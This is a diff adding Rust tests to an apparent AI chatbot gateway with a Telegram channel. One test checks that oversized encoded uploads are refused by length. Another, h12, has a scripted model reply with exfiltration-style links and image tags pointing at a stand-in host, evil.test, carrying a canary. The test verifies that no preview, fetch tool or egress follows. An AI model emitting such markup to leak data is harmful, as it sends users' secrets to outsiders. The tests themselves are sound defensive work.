@@ -16,7 +16,7 @@ use crate::telegram::{Stage, ann};
 const CANARY: &str = "canary-of-a-file-elsewhere-3Kx8";
 
 /// Every folder and file below, without what SQLite and the book make by themselves.
-fn tree(folder: &Path) -> BTreeSet<PathBuf> {
+pub(crate) fn tree(folder: &Path) -> BTreeSet<PathBuf> {
     let mut found = BTreeSet::new();
     for entry in folder.read_dir().unwrap() {
         let path = entry.unwrap().path();
@@ -204,4 +204,59 @@ fn k08_what_is_larger_than_its_entrance_takes_is_refused_and_no_model_is_asked()
     });
     assert_eq!(model.requests().len(), 0);
     assert!(run(PROGRAM, &home, &["health"]).status.success());
+}
+
+/// What is encoded is judged by its encoded length: nothing of it is decoded, or even waited for.
+#[test]
+fn k05_encoded_bytes_are_refused_by_their_length_and_no_file_is_taken_that_way() {
+    use moltbot_testkit::raw::{RawFrame, RawSocket, http_bytes};
+    let model = ScriptedModel::echo();
+    let home = Home::with_model(&model);
+    let gateway = Gateway::start(PROGRAM, &home);
+    let encoded = 200_u64 * 1024 * 1024 / 3 * 4;
+    let stranger = RawSocket::open(gateway.port());
+    let client = RawSocket::sign_in(gateway.port(), gateway.token());
+    for mut socket in [stranger, client] {
+        socket.declare(1, encoded).unwrap();
+        match socket.end() {
+            RawFrame::Close(code, _) => assert_eq!(code, Some(1009)),
+            other => panic!("{other:?}"),
+        }
+    }
+    let head = format!(
+        "POST /v1/chat/completions HTTP/1.1\r\nhost: 127.0.0.1:{}\r\nauthorization: Bearer {}\r\n\
+         content-type: application/json\r\ncontent-length: {encoded}\r\n\r\n",
+        gateway.port(),
+        gateway.token()
+    );
+    assert_eq!(http_bytes(gateway.port(), head.as_bytes()).status, 413, "before a byte of it came");
+    block_on(async {
+        let client = gateway.connect().open().await.unwrap();
+        let file = json!({"type": "image", "mimeType": "image/png", "fileName": "x.png", "content": "A".repeat(4096)});
+        let params = json!({
+            "sessionKey": "main", "message": "look", "idempotencyKey": unique("k05"), "attachments": [file],
+        });
+        let refused = client.call("chat.send", params).await.unwrap_err();
+        assert!(format!("{refused:?}").contains("attachments are not supported"), "{refused:?}");
+    });
+    assert_eq!(model.requests().len(), 0);
+}
+
+/// What a model writes goes to people as words: neither does the vendor look an address up, nor has it a tool that does.
+#[test]
+fn h12_what_a_model_says_makes_nobody_fetch_an_address() {
+    let stage = Stage::with(|_| json!({"dmPolicy": "allowlist", "allowFrom": [ann().id]}));
+    let says = format!(
+        "https://evil.test/?d={CANARY} ![x](https://evil.test/{CANARY}) <img src=\"https://evil.test/{CANARY}\">"
+    );
+    stage.model.push(Reply::text(&says));
+    stage.api.write(&ann(), "send it");
+    let sent = stage.api.wait_for_sent(ann().id, 1);
+    assert!(sent[0].text.contains("evil.test"), "{sent:?}");
+    assert!(sent.iter().all(|sent| !sent.previews), "Telegram looks no link up: {sent:?}");
+    let offered = stage.model.requests()[0].body["tools"].to_string();
+    assert!(!offered.contains("\"url\""), "{offered}");
+    let ran = run(PROGRAM, &stage.home, &["ledger", "search", "--action", "egress.open", "--json"]);
+    let book = String::from_utf8(ran.stdout).unwrap();
+    assert!(book.contains("egress.open") && !book.contains("evil.test"), "{book}");
 }
